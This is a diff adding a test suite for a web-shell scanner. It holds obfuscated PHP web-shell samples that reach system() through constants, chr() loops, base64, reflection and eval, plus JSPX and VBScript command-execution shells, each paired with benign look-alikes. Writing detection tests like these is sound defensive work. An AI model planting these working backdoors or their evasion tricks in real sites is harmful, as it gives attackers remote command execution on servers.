@@ -1,0 +1,104 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { createScanner } from './scanner.js';
+import { foldVariables } from './php-fold.js';
+
+// Techniques the session-21 measurement found missed (bench/README, "Session 21"), each written
+// again by us: names from constants, class members, keyed arrays, loops and functions of the file;
+// code in heredocs with escapes; superglobals joined with +; output handed to a command through a
+// variable; JSPX character references; VBScript Dictionaries. The PHP samples that PHP 8.2 can run
+// are run by it where it is installed (they print a marker through `echo`), so each is a real shell.
+const scanner = createScanner({});
+const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
+const php = spawnSync('php', ['-v'], { encoding: 'utf8' }).status === 0;
+const MARK = `s21run${process.pid}`;
+
+/** Runs `src` under PHP with the request's c = "echo MARK" (and f = "system"); whether MARK came out. */
+function runs(src: string): boolean {
+  const prelude = `$_GET = ['c' => 'echo ${MARK}', 'cmd' => 'echo ${MARK}', 'f' => 'system']; $_POST = $_GET; $_REQUEST = $_GET;`;
+  const body = src.replace(/^<\?php\s*/, '').replace(/\?>\s*$/, '');
+  const r = spawnSync('php', ['-d', 'display_errors=stderr', '-r', `${prelude}\n${body}`], { encoding: 'utf8', timeout: 10_000 });
+  return r.stdout.includes(MARK);
+}
+
+const PHP_SAMPLES: { name: string; src: string; run?: boolean }[] = [
+  { name: 'a constant of a define() of pieces, read by constant()', src: `<?php define('RUNNER', 'sys' . 'tem'); $f = constant('RUNNER'); $f($_GET['c']);` },
+  { name: 'a class constant joined, called in brackets', src: `<?php class Cfg { const A = 'sys'; const B = 'tem'; } (Cfg::A . Cfg::B)($_GET['c']);` },
+  { name: 'a static property read through self::', src: `<?php class Job { public static $h = 'system'; static function go($x) { (self::$h)($x); } } Job::go($_GET['c']);` },
+  { name: 'a property set in the constructor, the runner created through call_user_func', src: `<?php class Rules { private $p; function __construct() { $this->p = implode('_', ['create', 'function']); } function go() { $h = call_user_func($this->p, '', $_POST['c']); $h(); } } (new Rules)->go();`, run: false },
+  { name: 'a keyed map, the runner taken by its key', src: `<?php $ops = ['list' => 'scandir', 'run' => 'sys' . 'tem']; $ops['run']($_GET['c']);` },
+  { name: 'extract() of a literal map', src: `<?php extract(['fn' => 'system']); $fn($_GET['c']);` },
+  { name: 'a loop appending chr() of a list', src: `<?php $n = ''; foreach ([115, 121, 115, 116, 101, 109] as $o) { $n .= chr($o); } $n($_GET['c']);` },
+  { name: 'a helper of one return decoding the name', src: `<?php function nm($s) { return base64_decode($s); } nm('c3lzdGVt')($_GET['c']);` },
+  { name: 'an element appended to a list, then called', src: `<?php $l = []; $l[] = 'ignored'; $l[] = 'system'; $l[1]($_GET['c']);` },
+  { name: 'a heredoc of code with escaped dollars, evaluated', src: `<?php $code = <<<EOC\n\\$r = 'system';\n\\$r(\\$_GET['c']);\nEOC;\neval($code);` },
+  { name: 'the union of $_GET and $_POST evaluated', src: `<?php $in = $_GET + $_POST; eval(stripslashes('echo "' . '' . '";') . 'system($in["c"]);');`, run: true },
+  { name: 'ob_start given a command function held in a variable', src: `<?php $handler = 'system'; ob_start($handler); echo $_GET['c']; ob_end_flush();` },
+  { name: 'eval of entity-decoded, url-decoded base64', src: `<?php $blob = '${Buffer.from(encodeURIComponent('system($_GET["c"]);')).toString('base64')}'; eval(htmlspecialchars_decode(urldecode(base64_decode($blob))));` },
+  { name: 'a closure kept in a variable calling its parameter', src: `<?php $call = function ($f, $a) { return $f($a); }; $call('system', $_GET['c']);` },
+  { name: 'call_user_func of a static method by its name', src: `<?php class Svc { static function run($f, $a) { $f($a); } } call_user_func('Svc::run', $_GET['f'], $_GET['c']);` },
+  { name: 'a method invoked through ReflectionMethod', src: `<?php class Svc { function run($f, $a) { $f($a); } } (new ReflectionMethod('Svc', 'run'))->invoke(new Svc, $_GET['f'], $_GET['c']);` },
+];
+
+describe('scan: PHP techniques of session 21, samples of our own', () => {
+  for (const s of PHP_SAMPLES) {
+    it(`malicious: ${s.name}`, () => {
+      if (php && s.run !== false) assert.ok(runs(s.src), `the sample does not run under PHP: ${s.src}`);
+      const r = scan(s.src);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+});
+
+describe('scan: PHP 7 reads a bare word as its own name (an undefined constant)', () => {
+  it('a called group of bare words and literals is folded to the name', () => {
+    assert.equal(foldVariables(`<?php (sy.(st).'em')($_GET['c']);`), `<?php ('system')($_GET['c']);`);
+    assert.equal(scan(`<?=(sy.(st).(em))($_GET['cmd'])?>`).verdict, 'malicious');
+  });
+  it('a bracket of a call\'s arguments is not such a group', () => {
+    assert.equal(foldVariables(`<?php f(sy.(st).'em')($_GET['c']);`), undefined);
+  });
+});
+
+const BENIGN: [string, string][] = [
+  ['a constant naming a formatter used on input', `<?php define('CASE_FN', 'strtoupper'); echo htmlspecialchars(constant('CASE_FN')($_GET['q'] ?? ''));`],
+  ['a property set in the constructor to a logger name, called', `<?php class L { private $w; function __construct() { $this->w = 'error_log'; } function log($m) { call_user_func($this->w, $m); } } (new L)->log($_GET['q'] ?? '');`],
+  ['a heredoc template with escaped dollars, printed', `<?php $tpl = <<<T\nPrice: \\$%s\nT;\nprintf($tpl, htmlspecialchars($_GET['p'] ?? '0'));`],
+  ['$_GET + defaults, printed', `<?php $o = $_GET + ['page' => 1]; echo (int) $o['page'];`],
+  ['ob_start with a compressor held in a variable', `<?php $cb = 'ob_gzhandler'; ob_start($cb); echo htmlspecialchars($_GET['q'] ?? '');`],
+  ['a keyed list of callbacks for array_map', `<?php $f = ['clean' => 'trim']; echo htmlspecialchars(implode(',', array_map($f['clean'], (array) ($_GET['t'] ?? []))));`],
+];
+
+describe('scan: look-alikes of the session 21 techniques stay below malicious', () => {
+  for (const [name, src] of BENIGN) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src);
+      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+});
+
+describe('scan: JSPX and VBScript, as their runtimes read them', () => {
+  const enc = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
+  it('a JSPX scriptlet written as character references is read decoded', () => {
+    const src = `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>${enc('Process p = Runtime.getRuntime().exec(request.getParameter("c"));')}</jsp:scriptlet></jsp:root>`;
+    assert.equal(scan(src, '/www/a.jspx').verdict, 'malicious');
+  });
+  it('a JSPX scriptlet split by CDATA sections is read joined', () => {
+    const src = `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>Runtime.get<![CDATA[Runtime().ex]]>ec(request.getPara<![CDATA[meter("c"));]]></jsp:scriptlet></jsp:root>`;
+    assert.equal(scan(src, '/www/b.jspx').verdict, 'malicious');
+  });
+  it('a JSPX page of ordinary entities stays clean', () => {
+    const src = `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><p>Fish &amp; chips &#x2014; &lt;today&gt;</p><jsp:expression>request.getParameter("q") == null ? "" : "q"</jsp:expression></jsp:root>`;
+    assert.equal(scan(src, '/www/c.jspx').verdict, 'clean');
+  });
+  it('VBScript code built in a Scripting.Dictionary and Executed', () => {
+    const src = `<%\nSet parts = CreateObject("Scripting.Dictionary")\nparts.Add "x", "ev"\nparts.Add "y", "al"\nk = "pw"\nbuilt = parts.Item("x") & parts.Item("y") & "(request(""" & k & """))"\nExecute built\n%>`;
+    assert.equal(scan(src, '/www/d.asp').verdict, 'malicious');
+  });
+  it('a Dictionary of page titles, printed, stays clean', () => {
+    const src = `<%\nSet t = CreateObject("Scripting.Dictionary")\nt.Add "home", "Welcome"\ntitle = t.Item("home") & " - Shop"\nResponse.Write Server.HTMLEncode(title & Request.QueryString("q"))\n%>`;
+    assert.equal(scan(src, '/www/e.asp').verdict, 'clean');
+  });
+});
